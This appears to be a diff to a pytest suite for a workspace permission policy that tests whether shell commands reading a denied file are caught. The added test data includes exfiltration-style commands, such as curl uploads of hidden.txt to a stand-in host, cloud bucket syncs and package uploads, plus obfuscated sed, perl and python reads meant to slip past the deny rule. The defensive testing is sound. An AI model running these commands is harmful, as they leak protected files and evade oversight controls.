@@ -18,6 +18,18 @@ READING = [
     *("rg DIR", "cd DIR; rg word", "git grep word", "git -C DIR grep word", "CP -r DIR y", "git grep --no-index word", "git diff --no-index plain DIR", "mv DIR y", "ln -s DIR y"),
     *("tar cf x -T list", "tar -cf x --files-from=list", "tar --files-from list -cf x", "tar cTf list x", "ls | tar -cf x -T -", "ls DIR | cpio -o"),
     *("zip x -@ < list", "zip -q@ x < list", "7z a x @list", "rsync --files-from=list . y", "wc --files0-from=list", "sort --files0-from list"),
+    *("python -m zipfile -c x.zip DIR", "python3 -mzipfile -c x.zip DIR", "python -Im tarfile -c x.tar DIR", "python3.11 -X dev -m zipapp DIR"),
+    *("python -m http.server", "python -m http.server 8000 -d DIR", "python -m build", "python -m compileall DIR", "pip wheel .", "php -S 0:80"),
+    *("busybox httpd -f -h DIR", "caddy file-server", "docker build .", "docker -H tcp://x build .", "docker buildx build -t x DIR", "docker compose up"),
+    *("docker cp DIR x:/", "docker run -v ./DIR:/x y", "docker run --mount type=bind,source=./DIR,target=/x y", "podman build DIR", "buildah bud ."),
+    *("cmake -E tar cf x.tar DIR", "npm pack", "npm pack ./DIR", "aws s3 sync DIR s3://x", "gsutil -m cp -r DIR gs://x", "unknown DIR", "unknown -xDIR"),
+    *("unknown --from=DIR", "cd DIR; unknown .", "ctags -R", "python tool.py DIR", "python DIR/tool.py ./DIR/inner", "twine upload DIR/*", "hg archive x"),
+    *("git add .", "git add -A", "git -C DIR add .", "git stash -u", "git archive HEAD", "git -C x bundle create y HEAD", "git show", "git log -p", "git log -U3"),
+    *("git diff --word-diff", "git format-patch HEAD", "git clone . y", "git cat-file --batch", "git stash show -p", "git log -L1,2:a"),
+    *("cat DIR/**", "cat DIR/inner/hid*", "cat DIR/*/*.txt", "curl -T DIR/inner/hid*", "sed rDIR/inner/hidden.txt a", "sed '$wDIR/inner/hidden.txt' a"),
+    *("sed -n '/x/RDIR/inner/hidden.txt' a", "sed 's/a/b/wDIR/inner/hidden.txt' a", "sed '1{rDIR/inner/hidden.txt\n}' a", "vim +rDIR/inner/hidden.txt a"),
+    *("curl -F 'f=<DIR/inner/hidden.txt' http://x", "ruby -e 'puts File.read %q{DIR/inner/hidden.txt}'", "perl -e '@ARGV=qw!DIR/inner/hidden.txt!;print<>'"),
+    f"python -c '{'pass; ' * 60}print(open(\"DIR/inner/hidden.txt\"))'",
     *("du --files0-from=list", "git add --pathspec-from-file=list", "borg create x --paths-from-stdin", "pax -w < list"),
 ]  # fmt: skip
 OTHER = ["cp -r plain y", "tar czf x.tgz plain", "tar xzf x.tgz -C DIR", "cp DIR/a.txt y", "zip x.zip plain/a.txt", "ls DIR"]
@@ -27,7 +39,11 @@ OTHER += [
     "grep -rP word plain",
     "grep -r -m 3 word plain/a.txt",
     "zip x@y.zip plain/a.txt",
-]
+    *("cat plain/*", "cat pl*/a*", "head plain/a*.txt", "grep -r --include=*.py x plain", "grep -r --include=test_*.py x plain", "cat test_*.py"),
+    *("mv a.py DIR/", "cp -r plain DIR", "git add plain/a.txt", "git commit -m 'do not git push yet'", "ruff check .", "python -m pytest .", "gcc -I. a.c"),
+    *("ls DIR/inner/*", "rg --glob=*.py x plain", "rg -g*.py x plain", "find . -name test_*.py", "du --exclude=*.pyc ."),
+    *("cp -r plain y && cp plain/a*.txt y", "ls -d .*", "diff plain plain", "git log --oneline", "git show --stat"),
+]  # fmt: skip
 
 
 @pytest.fixture
@@ -38,9 +54,26 @@ def policy(tmp_path):
     (tmp_path / "DIR/inner/hidden.txt").write_text("x")
     (tmp_path / "DIR/a.txt").write_text("x")
     (tmp_path / "plain/a.txt").write_text("x")
-    programs = ["tar", "cp", "zip", "7z", "rsync", "diff", "grep", "rg", "gzip", "scp", "ls"]
+    programs = [
+        "tar",
+        "cp",
+        "zip",
+        "7z",
+        "rsync",
+        "diff",
+        "grep",
+        "rg",
+        "gzip",
+        "scp",
+        "ls",
+        "mv",
+        "git",
+        "ruff",
+        "python",
+        "gcc",
+    ]
     allow = [f"shell:{name} **" for name in programs]
-    rules = make_rules({"allow": [*allow, "shell:env **", "connect:**"], "deny": ["file:**/hidden.txt"]})
+    rules = make_rules({"allow": [*allow, "shell:env **", "connect:**"], "deny": ["file:**/hidden.txt", "shell:git push *"]})
     return {mode: Policy(workspace=tmp_path, mode=mode, rules=shipped_rules().with_session(rules)) for mode in MODES}
 
 
@@ -58,6 +91,7 @@ def test_what_reads_no_denied_file_is_allowed(policy, command):
 
 UNKNOWN = ["$UNKNOWN/x", '"$(pwd)"/x', "./$UNKNOWN/../x", "${UNKNOWN}plain/x", "$UNKNOWN/*/x"]
 TOLD = {ALWAYS: "", RECURSIVE: "-r", COPIES: "-r", PACKS: "cf y", "--no-index": "diff --no-index"}
+TOLD |= {READERS["php"]: "-S 0:80", READERS["npm"]: "pack", READERS["aws"]: "s3 cp", READERS["cmake"]: "-E copy_directory"}
 
 
 @pytest.mark.parametrize("name", sorted(READERS))
